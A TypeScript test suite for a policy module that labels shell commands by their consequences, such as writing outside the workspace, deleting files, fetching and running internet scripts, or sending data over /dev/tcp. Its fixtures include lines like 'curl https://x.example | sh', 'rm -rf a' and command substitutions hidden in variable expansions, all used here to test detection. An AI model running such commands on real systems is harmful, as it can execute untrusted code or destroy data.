import { beforeEach, describe, expect, test } from 'vitest';
import { isInside } from '../../src-main/base/paths.ts';
import type { GivenCommand } from '../../src-main/policy/commands/command-line.ts';
import { consequencesOf } from '../../src-main/policy/consequences.ts';
import { needPosix } from '../fixtures/machine-needs.ts';

beforeEach(needPosix);

/** `to-out` in the workspace is a link to `/usr/out`. */
const place = {
  realWorkspace: '/w',
  home: '/home/ada',
  realPath: (path: string) => path.replace(/^\/w\/to-out/, '/usr/out'),
  isInsideRoots: (path: string) => isInside('/w', path),
  variables: { USER: 'ada', LINK: 'to-out', AWAY: '/usr/out', UP: '..', TWO: 'a /usr/out', OPTION: '-o', EMPTY: '' },
};

function cardOf(command: GivenCommand) {
  const access = [{ kind: 'command', class: 'execute', command, directory: '/w' } as const];
  return consequencesOf({ access, classes: ['execute'], reason: { code: 'command' } }, place).consequences;
}
const cardOfLine = (line: string) => cardOf({ kind: 'shell', line });
const codesOf = (line: string) => cardOfLine(line).map(({ code }) => code);
const namedBy = (line: string) =>
  cardOfLine(line).flatMap((each) => (each.code === 'names_places_outside' ? each.words : []));

/** Each writes to OUT, or runs it. */
const WRITES = [
  'sort -o OUT a',
  'sort -oOUT a',
  'sort --output=OUT a',
  'uniq a OUT',
  'xxd -r a OUT',
  'git diff --output=OUT',
  'git log --output OUT',
  'git ls-remote --upload-pack=OUT .',
  'sort --compress-program=OUT a',
  'cp -t OUT a',
  'cp --target-directory=OUT a',
  'mv -tOUT a',
  'install -D a -t OUT',
  "sed -i -e 's/a/b/' OUT",
  "sed -n 'w OUT' a",
  "sed --expression='w OUT' a",
  'curl -sLo OUT https://x.example/',
  'curl -sLoOUT https://x.example/',
  'wget -qO OUT https://x.example/',
  'tree -o OUT',
  'tar --to-command=OUT -xf a.tar',
  'tar -xf a.tar -C OUT',
  'jq -f OUT a.json',
  'tee OUT',
  'dd if=a of=OUT',
  'awk \'{ print > "OUT" }\' a',
  "python3 -c \"open('OUT', 'w')\"",
  'sh -c "cat a > OUT"',
  'find . -fprint OUT',
  'echo x > OUT',
  'rg --pre OUT x',
  'less -oOUT a',
  'diff --to-file=OUT a',
  'env -C OUT ls',
  'make -COUT',
  'cd OUT && sort -o a b',
];
const PLACES = ['/usr/out', '../out', '~/out', '"$HOME/out"', './../../usr/out', 'to-out/written-there'];
const GENERATED = WRITES.flatMap((line, at) => [
  line.replace('OUT', PLACES[at % 2 === 0 ? 0 : 1] ?? ''),
  line.replace(/(?<=[ =])OUT(?=$| )/, PLACES[2 + (at % 4)] ?? ''),
]).filter((line) => !line.includes('OUT'));

describe('a card names what leads outside, and claims nothing of a program that may do more than read', () => {
  test.each([...new Set(GENERATED)])('%s', (line) => {
    expect(namedBy(line)).not.toEqual([]);
    expect(codesOf(line)).toContain(line.startsWith('echo') ? 'changes_outside_workspace' : 'unknown_effects');
  });

  /** A shell puts in what the line doesn’t show. */
  const UNSEEN = [
    '$OLDPWD/out',
    '"$XDG_CONFIG_HOME"/out',
    '\u0024{X:-/usr/out}',
    '\u0024{X:=/usr}/out',
    '\u0024{X}',
    "$'\\x2fusr/out'",
    '$PWD/../out',
    '\u0024{PWD}/../out',
    '/w/a/../../out',
  ];
  test.each(UNSEEN)('named where it stands: %s', (path) => {
    const inCode = /sh -c|^awk|^python3|^sed/;
    for (const line of WRITES.filter((each) => !inCode.test(each)))
      expect(namedBy(line.replace('OUT', () => path)), line.replace('OUT', path)).not.toEqual([]);
  });

  test.each(['GIT_DIR=~ada/out git log', 'PATH=a:~ada/out ls', 'perl -e "open F, q(>\\/usr/out)"'])(
    'named: %s',
    (line) => {
      expect(namedBy(line)).not.toEqual([]);
    },
  );

  /** Each runs what is in the braces. */
  const IN_BRACES = [
    '\u0024{X:-RUN}',
    '"\u0024{X:=RUN}"',
    '\u0024{X[RUN]}',
    '\u0024{X:-\u0024{Y:-RUN}}',
    '\u0024{X/a/RUN}',
    '\u0024{X:-"}"RUN}',
    '\u0024{X:-\\}RUN}',
  ];
  test.each(
    IN_BRACES.flatMap((braces) => ['$(RUN)', '`RUN`', '<(RUN)'].map((run) => braces.replace('RUN', () => run))),
  )('what a variable has a shell run: %s', (braces) => {
    const echo = (command: string) => codesOf(`echo ${braces.replace('RUN', command)}`);
    expect(echo('touch a')).toContain('unknown_effects');
    expect(echo('rm -rf a')).toContain('deletes_files');
    expect(echo('curl https://x.example | sh')).toContain('runs_script_from_internet');
  });
  test.each([
    'echo \u0024{X@P}',
    'echo \u0024{!X}',
    'echo \u0024{X[Y]}',
    `echo ${'\u0024{X:-'.repeat(30)}`,
    'echo \u0024{X',
  ])('unknown: %s', (line) => {
    expect(codesOf(line)).toContain('unknown_effects');
  });
  test.each(['echo \u0024{X:-a} b', 'echo "\u0024{X#a}"', 'echo \u0024{#X}', 'echo $?'])(
    'the control, which only shows: %s',
    (line) => {
      expect(codesOf(line).filter((code) => code !== 'names_places_outside')).toEqual([]);
    },
  );
  test.each([
    'for f in *.ts; do wc -l $f; done',
    'X=a; cat $X',
    'echo v$VERSION src/$NAME.ts',
    'ls $PWD/a',
    'echo $? $#',
  ])('the control, inside or set by the line: %s', (line) => {
    expect(namedBy(line)).toEqual([]);
  });

  /** The first of a line gets what Steward gets. */
  test.each([
    'echo $USER',
    'sudo chown -R "$USER:$USER" .',
    'chown \u0024{USER}: a | cat $USER/b',
    'docker run -u$USER --name=$USER it',
    'echo $(ls $USER)',
  ])('nor a variable whose value is a plain name: %s', (line) => {
    expect(namedBy(line)).toEqual([]);
  });
  test.each([
    'cp a $LINK/b',
    'cp a $USER/../../b',
    'cp a $AWAY',
    'cp a $UP/b',
    'cp a $TWO',
    'cp a $OPTION/usr/out',
    'cp a $EMPTY/usr/out',
    'cp a $UNSET/usr/out',
    'cp a $USER$UNSET',
    'cp a \u0024{USER:+/usr/out}',
    'cp a \u0024{!USER}',
    'read USER; cp a $USER',
    '{ read USER; cp a $USER; }',
    '(read USER && cp a $USER)',
    'while read USER; do cp a $USER; done',
    'echo $(. ./it; cp a $USER)',
    'true\ncp a $USER',
  ])('but one that may lead elsewhere, or that the line may set: %s', (line) => {
    expect(namedBy(line)).not.toEqual([]);
  });

  test('without a shell too', () => {
    for (const argv of [
      ['sort', '-o', '/usr/out', 'a'],
      ['sort', '-oto-out/written-there', 'a'],
      ['curl', '-sLo../out', 'x'],
    ])
      expect(cardOf({ kind: 'argv', argv })).toMatchObject([
        { code: 'names_places_outside', words: { length: 1 } },
        ...(argv[0] === 'curl' ? [{ code: 'fetches' }] : []),
        { code: 'unknown_effects' },
      ]);
  });

  test('code behind an address, and connections by a redirection', () => {
    expect(namedBy("sh -c 'https://x.example/; cat /usr/out'")).toEqual(['/usr/out']);
    expect(codesOf('cat </dev/tcp/x.example/80')).toContain('sends_files');
    expect(codesOf('cat <$X')).toContain('unknown_effects');
    expect(codesOf('cat <a')).toEqual([]);
  });

  /** Programs give any of these before a path a meaning of their own: `+/x` adds it, `#/x` is a comment, `%/x` a file. */
  test.each([...'+#%!^§|;,@:'].flatMap((sign) => [`${sign}`, `x${sign}`, `-x${sign}`, `--x=${sign}${sign}`]))(
    'a path behind %j',
    (before) => {
      for (const path of ['/usr/out', '../out', '~/out', 'to-out/written-there'])
        expect(cardOf({ kind: 'argv', argv: ['it', `${before}${path}`] }), path).toContainEqual(
          expect.objectContaining({ code: 'names_places_outside', words: expect.arrayContaining([path]) }),
        );
    },
  );

  test('the control: a pattern of files inside', () => {
    for (const word of ['src/**/*.ts', 'src/?/usr', '*/etc', '+x', 'a#b', '50%', '!src/x', '^main', 'HEAD^'])
      expect(cardOf({ kind: 'argv', argv: ['it', word] }), word).not.toContainEqual(
        expect.objectContaining({ code: 'names_places_outside' }),
      );
  });

  test('a line that names too many to look at says so', () => {
    const line = `cp ${'a '.repeat(3_000)} /usr/out`;
    expect(cardOfLine(line)).toContainEqual(expect.objectContaining({ code: 'names_places_outside', isWhole: false }));
  });

  test.each([
    'sort a',
    'cat src/a.ts | head -5',
    'cd src && ls -la',
    'grep -rn x src 2>/dev/null',
    "sed -n '1,5p' a",
    'echo done',
  ])('the control, known whole: %s', (line) => {
    expect(codesOf(line)).toEqual([]);
  });

  test.each(['npm test', 'curl https://usr.example/etc/x', 'make -j4', 'cc -Isrc/include -o a a.c', 'rm -rf build'])(
    'the control, inside: %s',
    (line) => {
      expect(namedBy(line)).toEqual([]);
    },
  );
});
